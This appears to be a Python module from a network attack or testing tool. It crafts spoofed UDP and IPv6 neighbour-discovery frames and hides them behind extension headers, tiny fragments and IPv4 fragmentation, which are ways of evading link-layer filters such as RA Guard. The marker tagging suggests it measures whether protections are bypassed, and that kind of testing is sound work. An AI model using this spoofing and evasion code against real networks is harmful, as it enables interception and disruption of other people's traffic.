"""Datagrams and messages of neighbour discovery as an attack wants them: in the name of another, and hidden."""

import os

import frames as f
from addresses import ip_bytes, mac_bytes
from markers import marked

FRAGMENTED = ("fragments", "tiny-fragments")


class Request:
    """The parameters of one attack, as bytes, with what the attacking interface has where they are silent."""

    def __init__(self, own, parameters):
        self.own = own
        self.parameters = parameters
        self.marker = marked(parameters["marker"])
        self.behind = parameters.get("behind", ())
        self.port = parameters.get("port", 9)

    def get(self, name, default=None):
        return self.parameters.get(name, default)

    def mac(self, name, default):
        return mac_bytes(self.parameters[name]) if self.parameters.get(name) else default

    def ip(self, name, default=None):
        return ip_bytes(self.parameters[name]) if self.parameters.get(name) else default

    @property
    def victim_mac(self):
        return mac_bytes(self.parameters["victim"]["mac"])

    @property
    def victim(self):
        return ip_bytes(self.parameters["victim"]["address"])

    def source_for(self, destination):
        """The source that is claimed, else our own of the same family."""
        given = self.ip("source")
        if given is not None:
            return given
        if len(destination) == 4:
            return self.own.ipv4
        return self.own.link_local if destination[:2] in (b"\xfe\x80", b"\xff\x02") else self.own.ipv6

    def frame(self, destination, ethertype, payload, tags=()):
        return f.ethernet(destination, self.mac("sourceMac", self.own.mac), ethertype, payload, tags)

    def datagram(self, destination_mac, destination, source=None, source_port=40000, port=None, payload=None, tags=()):
        """Frames of a UDP datagram, hidden behind what `behind` says."""
        source = source or self.source_for(destination)
        message = f.udp(source, destination, source_port, port or self.port, payload or self.marker)
        return self.packets(destination_mac, source, destination, f.UDP, message, tags)

    def packets(self, destination_mac, source, destination, protocol, message, tags=()):
        """Frames of a message of any protocol, hidden behind what `behind` says."""
        if len(destination) == 4:
            packets = hidden_ipv4(source, destination, protocol, message, self.behind)
        else:
            packets = hidden_ipv6(source, destination, protocol, message, 64, self.behind)
            packets = [f.with_traffic_class(packet, self.get("trafficClass", 0)) for packet in packets]
        ethertype = self.get("ethertype", f.IPV4 if len(destination) == 4 else f.IPV6)
        return [self.frame(destination_mac, ethertype, packet, tags) for packet in packets]

    def discovery(self, destination_mac, source, destination, kind, body):
        """Frames of an ICMPv6 message of neighbour discovery: hop limit 255, or it is ignored (RFC 4861, 6.1)."""
        message = f.icmpv6(source, destination, kind, 0, body + f.marker_option(self.marker))
        packets = hidden_ipv6(source, destination, f.ICMPV6, message, 255, self.behind)
        return [self.frame(destination_mac, f.IPV6, packet) for packet in packets]


def hidden_ipv6(source, destination, protocol, message, hops, behind):
    """IPv6 packets of a message behind extension headers and fragment headers, the outermost first."""
    identity = int.from_bytes(os.urandom(4), "big")
    parts = [(protocol, message)]
    for name in reversed(behind):
        if name in FRAGMENTED:
            parts = split(*parts[0], len(message), name == "tiny-fragments", identity)
        elif name == "fragment":
            parts = [(f.FRAGMENT, f.fragment_header(kind, 0, 0, identity) + data) for kind, data in parts]
        else:
            header = {"hop-by-hop": f.HOP_BY_HOP, "destination": f.DESTINATION}[name]
            parts = [(header, f.options_header(kind) + data) for kind, data in parts]
    return [f.ipv6(source, destination, kind, data, hops) for kind, data in parts]


def split(kind, data, length, tiny, identity):
    """Two fragments: the first ends after eight bytes of the message, or, tiny, before the first of them."""
    if tiny:
        kind, data = f.DESTINATION, f.options_header(kind) + data
    first = len(data) - length + (0 if tiny else 8)
    return [
        (f.FRAGMENT, f.fragment_header(kind, 0, 1, identity) + data[:first]),
        (f.FRAGMENT, f.fragment_header(kind, first, 0, identity) + data[first:]),
    ]


def hidden_ipv4(source, destination, protocol, message, behind):
    """IPv4 packets of a message behind options (no operation), or in two fragments that part after eight bytes."""
    if "fragments" in behind:
        return f.ipv4_fragments(source, destination, protocol, message, 8, int.from_bytes(os.urandom(2), "big"))
    return [f.ipv4(source, destination, protocol, message, b"\x01" * 8 if "ip-options" in behind else b"")]
